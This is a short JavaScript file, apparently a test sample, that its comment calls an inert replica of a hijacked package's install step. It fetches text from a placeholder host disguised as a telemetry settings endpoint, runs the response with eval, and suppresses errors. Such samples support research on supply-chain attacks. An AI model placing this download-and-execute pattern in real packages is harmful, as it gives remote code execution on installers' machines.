/* oxlint-disable no-eval -- what the sample is about */
'use strict';

// An inert replica of what a taken-over package does at install: it would run whatever an address answers. The address never resolves.
const https = require('node:https');

https.get('https://telemetry.example.invalid/settings', (answer) => {
  let settings = '';
  answer.on('data', (part) => { settings += part; });
  answer.on('end', () => eval(settings));
}).on('error', () => {});
